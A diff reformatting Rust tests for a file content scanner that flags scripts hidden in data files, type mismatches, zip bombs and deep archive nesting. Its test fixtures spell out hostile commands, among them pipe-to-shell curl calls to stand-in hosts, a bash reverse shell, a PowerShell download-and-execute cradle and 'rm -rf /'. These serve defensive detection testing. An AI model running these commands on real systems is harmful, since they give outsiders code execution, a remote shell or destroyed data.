@@ -77,7 +77,11 @@ fn zip(entries: &[Entry<'_>], extra_central: &[&str]) -> Vec<u8> {
     let mut count = 0u16;
     for e in entries {
         let offset = out.len() as u32;
-        let body = if e.deflated { deflate(e.data) } else { e.data.to_vec() };
+        let body = if e.deflated {
+            deflate(e.data)
+        } else {
+            e.data.to_vec()
+        };
         let method: u16 = if e.deflated { 8 } else { 0 };
         let flags: u16 = if e.descriptor { 8 } else { 0 };
         let (csize, usize_) = if e.descriptor {
@@ -227,11 +231,16 @@ fn eicar_is_found_anywhere_even_across_read_chunks() {
 
 #[test]
 fn declared_type_must_match_detected_type() {
-    let report = scan("part-0001.parquet", b"#!/bin/sh\ncurl https://x.example | sh\n");
+    let report = scan(
+        "part-0001.parquet",
+        b"#!/bin/sh\ncurl https://x.example | sh\n",
+    );
     assert!(flagged(&report).contains(&"script.in_data"), "{report:?}");
     // In a package (not declared as a data pack), the same mismatch is still flagged.
-    let mut scanner_limits = Limits::default();
-    scanner_limits.max_findings = 10;
+    let scanner_limits = Limits {
+        max_findings: 10,
+        ..Limits::default()
+    };
     let mut scanner = custodian_scan::content::Scanner::new(&scanner_limits);
     scanner
         .scan("data/x.parquet", false, &mut &b"just some text"[..])
@@ -239,7 +248,11 @@ fn declared_type_must_match_detected_type() {
     let report = scanner.finish();
     assert_eq!(flagged(&report), ["type.mismatch"], "{report:?}");
     // Real Parquet magic passes.
-    assert!(scan("x.parquet", b"PAR1\0\0\0\x15binary rows").findings.is_empty());
+    assert!(
+        scan("x.parquet", b"PAR1\0\0\0\x15binary rows")
+            .findings
+            .is_empty()
+    );
     // A .csv holding a zip hides what it is.
     let z = zip(&[entry("a.txt", b"hello")], &[]);
     assert!(flagged(&scan("rows.csv", &z)).contains(&"type.mismatch"));
@@ -248,19 +261,45 @@ fn declared_type_must_match_detected_type() {
 #[test]
 fn dangerous_script_constructs_in_data() {
     let positive = [
-        ("a.csv", "id,cmd\n1,curl -s https://get.evil.io/x | sh\n", "script.pipe_to_shell"),
-        ("b.jsonl", "{\"t\":\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"}\n", "script.reverse_shell"),
-        ("c.txt", "run: powershell -enc SQBFAFgA\n", "script.encoded_powershell"),
-        ("d.tsv", "x\tIEX (New-Object Net.WebClient).DownloadString('http://a')\n", "script.download_exec"),
-        ("e.json", "{\"cmd\": \"sudo rm -rf / --no-preserve-root\"}", "script.destructive"),
+        (
+            "a.csv",
+            "id,cmd\n1,curl -s https://get.evil.io/x | sh\n",
+            "script.pipe_to_shell",
+        ),
+        (
+            "b.jsonl",
+            "{\"t\":\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"}\n",
+            "script.reverse_shell",
+        ),
+        (
+            "c.txt",
+            "run: powershell -enc SQBFAFgA\n",
+            "script.encoded_powershell",
+        ),
+        (
+            "d.tsv",
+            "x\tIEX (New-Object Net.WebClient).DownloadString('http://a')\n",
+            "script.download_exec",
+        ),
+        (
+            "e.json",
+            "{\"cmd\": \"sudo rm -rf / --no-preserve-root\"}",
+            "script.destructive",
+        ),
     ];
     for (name, text, rule) in positive {
         let report = scan(name, text.as_bytes());
         assert!(flagged(&report).contains(&rule), "{name}: {report:?}");
     }
     let negative = [
-        ("a.csv", "id,cmd\n1,curl -s https://example.com/data.json -o data.json\n"),
-        ("b.jsonl", "{\"t\":\"cat file | sort | uniq\"}\n{\"t\":\"ls | shuf\"}\n"),
+        (
+            "a.csv",
+            "id,cmd\n1,curl -s https://example.com/data.json -o data.json\n",
+        ),
+        (
+            "b.jsonl",
+            "{\"t\":\"cat file | sort | uniq\"}\n{\"t\":\"ls | shuf\"}\n",
+        ),
         ("c.txt", "rm -rf ./build and start again\n"),
     ];
     for (name, text) in negative {
@@ -389,14 +428,20 @@ fn zip_bombs_are_stopped_before_they_expand() {
 
     // Ordinary compressible text under the ratio is fine.
     let text = "a,b,c\n1,2,3\n".repeat(100_000);
-    assert_eq!(scan_with("ok.csv.gz", &gzip(text.as_bytes()), &limits).verdict(), Verdict::Clean);
+    assert_eq!(
+        scan_with("ok.csv.gz", &gzip(text.as_bytes()), &limits).verdict(),
+        Verdict::Clean
+    );
 }
 
 #[test]
 fn overlapping_or_hidden_central_entries_are_flagged() {
     let z = zip(&[entry("a.txt", b"x")], &["a.txt", "b.txt"]);
     let report = scan("x.zip", &z);
-    assert!(flagged(&report).contains(&"archive.ambiguous"), "{report:?}");
+    assert!(
+        flagged(&report).contains(&"archive.ambiguous"),
+        "{report:?}"
+    );
 }
 
 #[test]
@@ -407,7 +452,10 @@ fn nesting_deeper_than_the_limit_is_flagged_not_opened() {
     }
     let report = scan("outer.zip", &inner);
     assert!(flagged(&report).contains(&"archive.nesting"), "{report:?}");
-    assert!(!rules(&report).contains(&"malware.eicar"), "opened too deep: {report:?}");
+    assert!(
+        !rules(&report).contains(&"malware.eicar"),
+        "opened too deep: {report:?}"
+    );
     // Within the limit the payload is found, with its full path.
     let nested = tar(&[(
         "inner.csv.gz",
